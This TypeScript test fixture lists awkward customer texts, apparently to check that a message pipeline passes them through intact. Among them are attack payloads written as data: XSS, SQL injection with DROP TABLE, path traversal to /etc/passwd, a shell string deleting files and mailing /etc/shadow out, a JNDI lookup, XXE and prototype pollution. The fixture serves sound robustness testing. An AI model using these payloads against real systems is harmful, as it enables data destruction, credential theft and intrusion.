const CAPTION_BYTES = 100_000;

/** `text` again and again, up to 100 kB of UTF-8. */
function caption(text: string): string {
  return text.repeat(Math.floor(CAPTION_BYTES / Buffer.byteLength(text)));
}

/**
 * What customers may write, and firewalls, parsers or databases may choke on. Nothing of it is an attack on us: it is text,
 * which must arrive as it was written.
 */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  script: '<script>alert("hola")</script>',
  'event handler': '"><img src=x onerror=alert(1)>',
  'SQL injection': "' OR 1=1 --",
  'SQL statement': 'Robert"); DROP TABLE clientes;--',
  path: '../../etc/passwd',
  'Windows path': '..\\..\\windows\\win.ini',
  'shell command': '$(rm -rf /) `id` ; cat /etc/shadow | mail a@b.example',
  lookup: `\${jndi:ldap://203.0.113.9/a}`,
  template: '{{7*7}} <%= 7*7 %> #{7*7}',
  format: '%s%s%n %00 %0d%0aSet-Cookie: a=b',
  'XML entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  JSON: '","fromMe":true,"__proto__":{"isAdmin":true},"a":"',
  'control characters': 'a\u0000b\u0007c\u001b[31md\r\ne\u2028f',
  'text from right to left': '\u202egnp.exe \u200f\u061c',
  'what SQS refuses': 'a\ufffeb\uffffc',
  'half an emoji': 'a\ud83db',
  'many emoji': '👩‍👩‍👧‍👦🇲🇽🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  '100 kB of scripts': caption('<script>alert(1)</script>'),
  '100 kB of SQL': caption("' OR 1=1 -- "),
  '100 kB of paths': caption('../'),
  '100 kB of emoji': caption('😀'),
  '100 kB of zeros': caption('\u0000'),
};
